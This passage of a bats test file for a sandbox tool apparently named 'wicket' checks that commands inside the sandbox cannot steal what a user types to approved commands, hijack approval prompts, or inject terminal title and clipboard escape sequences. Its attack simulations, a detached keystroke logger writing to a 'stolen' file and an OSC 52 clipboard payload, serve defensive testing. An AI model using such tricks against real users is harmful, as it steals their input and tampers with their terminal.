assert b"|17/" not in ts, "DECUDK reached the terminal"
print("ok")
PYEOF
}

@test "ask attack 7: what the person types to an approved command is not read by a process of the sandbox (one in a session of its own, outside job control)" {
	drive <<'PYEOF'
def main():
    t = session()
    # The thief: its own session (the pty is not its controlling
    # terminal, so no SIGTTIN stops it), reading the session's terminal.
    # It starts reading once the question is answered.
    t.line('setsid -f timeout 7 sh -c \'sleep 3; while IFS= read -r l; do printf "%%s\\n" "$l" >>stolen; done\'; "%s" ask --outside -- sh -c "head -n 6 >%s/got"; echo "rc=$?"' % (w, out))
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    t.send("y\r")
    time.sleep(3)
    for i in range(6):
        t.send("secret%d\r" % i)
        time.sleep(0.1)
    t.expect(r"rc=0\r\n")
    with open(out + "/got") as f:
        got = f.read()
    stolen = open(ws + "/stolen").read() if os.path.exists(ws + "/stolen") else ""
    check("secret" not in stolen, "the sandbox read what was typed to the approved command: %r" % stolen)
    check(got == "".join("secret%d\n" % i for i in range(6)), "the command read every line: %r" % got)
    time.sleep(3)          # the thief is gone (timeout 7): the shell gets its exit
    t.line("exit 0")
    t.wait()

run(main)
PYEOF
}

@test "ask: an approved command started in the background neither holds the session's terminal nor reads its keys" {
	printf '{"extends": "workspace-write", "escalation": {"allow": [["head", "-n", "1"]]}}\n' >"$OUT/bg.json"
	chmod 644 "$OUT/bg.json"
	drive <<'PYEOF'
def main():
    t = bash([w, "run", "--policy", out + "/bg.json", "--"], cwd=ws)
    t.line('"%s" ask -- head -n 1 >bg.out & sleep 0.5; echo still-here' % w)
    t.expect(r"still-here\r\n")
    # The shell has the terminal: what is typed reaches it, not the job.
    t.line("echo typed-$((6*7))")
    t.expect(r"typed-42\r\n")
    t.line("wait; echo waited")
    t.expect(r"waited\r\n")
    got = open(ws + "/bg.out").read()
    check(got == "", "the background command read the terminal: %r" % got)
    t.line("exit 0")
    t.wait()

run(main)
PYEOF
	grep -q '"stdin":"terminal","stdin_replaced":"/dev/null"' "$AUDIT"
}

@test "ask attack 8: the sandbox ending its wicket ask (SIGHUP to the command) does not get the keys typed for the command next" {
	command -v pkill >/dev/null || skip "pkill (procps) is not installed"
	drive <<'PYEOF'
def main():
    t = session()
    # A reader in a session of its own from 3 s on; the shell itself busy
    # (sleep), so that the reader is the only one; the request killed at
    # 5 s, while the approved command waits for its line.
    t.line('setsid -f timeout 20 sh -c \'sleep 3; while IFS= read -r l; do printf "%%s\\n" "$l" >>stolen; done\'; '
           '(sleep 5; pkill -x wicket) & "%s" ask --outside -- head -n 1; echo "rc=$?"; sleep 8' % w)
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    t.send("y\r")
    t.expect(r"what you type is dropped")
    t.send("hunter2\r")
    time.sleep(1)
    t.send("later\r")
    time.sleep(1)
    stolen = open(ws + "/stolen").read() if os.path.exists(ws + "/stolen") else ""
    check("hunter2" not in stolen, "the sandbox read what was typed for the ended command: %r" % stolen)
    check("later" in stolen, "after Enter the keys are the session's again: %r" % stolen)
    t.kill(9)

run(main)
PYEOF
}

@test "ask attack 9: an approved command's output is filtered like the session's (a file of the sandbox's cannot set the title or the clipboard)" {
	printf 'before\033]0;PWNED-BY-SANDBOX\007\033]52;c;ZWNobyBwd25lZAo=\007after-title\n' >"$WS/notes.txt"
	drive <<'PYEOF'
def main():
    t = session()
    # Run in a sandbox of its own, then outside: filtered either way.
    t.line('"%s" ask -- cat notes.txt; echo "rc=$?"' % w)
    t.expect(r"Run it once in that sandbox of its own\? \[y/N\] ")
    t.send("y\r")
    t.expect(r"after-title")
    t.expect(r"rc=0\r\n")
    t.line('"%s" ask --outside -- cat notes.txt; echo "rc=$?"' % w)
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    t.send("y\r")
    t.expect(r"after-title")
    t.expect(r"rc=0\r\n")
    check(b"\x1b]0;PWNED" not in t.out, "the title reached the terminal")
    check(b"\x1b]52;" not in t.out, "the clipboard string reached the terminal")
    t.line("exit 0")
    t.wait()

run(main)
PYEOF
}

@test "ask attack 10: a question waits while an approved command has the terminal (a y typed for the command answers nothing else)" {
	drive <<'PYEOF'
def main():
    t = session()
    # The sandbox asks again while the first approved command (reading a
    # line on its own terminal) runs.
    t.line('(sleep 3; "%s" ask --outside -- touch "%s/second"; echo "rc2=$?") & "%s" ask --outside -- head -n 1; echo "rc=$?"' % (w, out, w))
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    t.send("y\r")
    time.sleep(5)
    # The second question has not been drawn over the first command.
    check(t.out.count(b"asks to run a command OUTSIDE") == 1, "a question was drawn while the approved command had the terminal")
    # Meant for the first command: it reads it (and prints it), nothing
    # else answers.
    t.send("y\r")
    t.expect(r"\r\ny\r\n")
    # Now the second question comes, on its own.
    t.expect(r"Run it outside the sandbox once\? \[y/N\] ")
    check(not os.path.exists(out + "/second"), "the second request was approved by a key typed for the first command")
    t.send("n\r")
    t.expect(r"rc=0\r\n")
    t.expect(r"rc2=122\r\n")
    check(not os.path.exists(out + "/second"), "the second command ran")
    t.line("exit 0")
    t.wait()

run(main)
PYEOF
}

@test "ask attack 11: while keys are held after a killed command, a new approved command does not get them" {
	printf '#!/bin/sh\ncat >/dev/null\nexit 0\n' >"$OUT/yes"
	chmod 755 "$OUT/yes"
	drive <<'PYEOF'
def main():
    script = r"""
exec 3<&0
"$1" ask -- sleep 30 <&3 &
A=$!
sleep 3
kill -TERM $A
wait $A
"$1" ask -- head -n 1 <&3 >stolen
echo DONE
"""
    t = Term([w, "run", "--approver", out + "/yes", "--", "sh", "-c", script, "_", w], cwd=ws)
    time.sleep(2)
    t.send("secr")          # typed for the first command
    time.sleep(2.5)         # meanwhile the sandbox ends it and asks again
    t.send("et123\r")
    t.expect(r"DONE")
    t.wait()
    stolen = open(ws + "/stolen").read() if os.path.exists(ws + "/stolen") else ""
    check("et123" not in stolen, "keys typed after the signalled end reached the sandbox: %r" % stolen)

run(main)
PYEOF
}

@test "ask: the question after a full-screen program (vim) keeps what was above it, on the screen and in the scrollback" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	command -v vim >/dev/null || skip "vim is not installed"
	# vim enters the alternate screen (saving the cursor) and leaves it;
	# the question that comes later must not leave it again (1049 would
	# restore vim's old cursor) nor clear from anywhere but its own line.
	tmux_start "$WICKET" run -- bash --norc --noprofile -i
	tmux -L "$TMUX_SOCK" send-keys -l 'PS1="sh> "; printf "top-%s\n" 1 2 3' && tmux -L "$TMUX_SOCK" send-keys Enter
	tmux_wait '^top-3$'
	tmux -L "$TMUX_SOCK" send-keys -l 'vim -u NONE -N -i NONE notes.txt' && tmux -L "$TMUX_SOCK" send-keys Enter
	tmux_wait '^~ *$'
	tmux -L "$TMUX_SOCK" send-keys -l ':q' && tmux -L "$TMUX_SOCK" send-keys Enter
	tmux_wait '^sh> ?$'
	# The marks on the screen first: the question waits for nothing the
	# command wrote before it that the supervisor has not read yet.
	tmux -L "$TMUX_SOCK" send-keys -l 'printf "mark-%s\n" 1 2 3' && tmux -L "$TMUX_SOCK" send-keys Enter
	tmux_wait '^mark-3$'
	tmux -L "$TMUX_SOCK" send-keys -l 'wicket ask --outside -- true; echo "rc=$?"' && tmux -L "$TMUX_SOCK" send-keys Enter
	tmux_wait '^Run it outside the sandbox once\? \[y/N\] ?$'
	run -0 tmux_screen
	assert_line top-3
	assert_line mark-1
	assert_line mark-3
	assert_line --partial 'wicket ask --outside -- true'
	tmux -L "$TMUX_SOCK" send-keys n Enter
	tmux_wait '^rc=122$'
	run -0 tmux_screen -S -
	assert_line top-1
	assert_line mark-1
	assert_line mark-3
	assert_line --partial 'wicket ask --outside -- true'
	tmux -L "$TMUX_SOCK" send-keys -l 'exit 0' && tmux -L "$TMUX_SOCK" send-keys Enter
	wait_screen '^wicket-exit=0$'
}
